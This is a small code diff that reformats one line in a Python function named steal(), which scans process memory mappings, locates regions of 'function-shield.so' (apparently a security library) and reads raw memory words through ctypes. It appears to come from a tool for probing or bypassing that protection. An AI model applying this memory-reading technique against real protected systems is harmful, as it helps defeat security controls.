@@ -21,7 +21,9 @@ def mappings():
 def steal():
     known = list(mappings())
     core = [(low, high) for low, high, _, path in known if "function-shield.so" in path]
-    readable = [(low, high) for low, high, mode, path in known if mode[0] == "r" and path[:2] != "[v"]
+    readable = [
+        (low, high) for low, high, mode, path in known if mode[0] == "r" and path[:2] != "[v"
+    ]
 
     def word(at):
         return struct.unpack("<Q", ctypes.string_at(at, 8))[0]
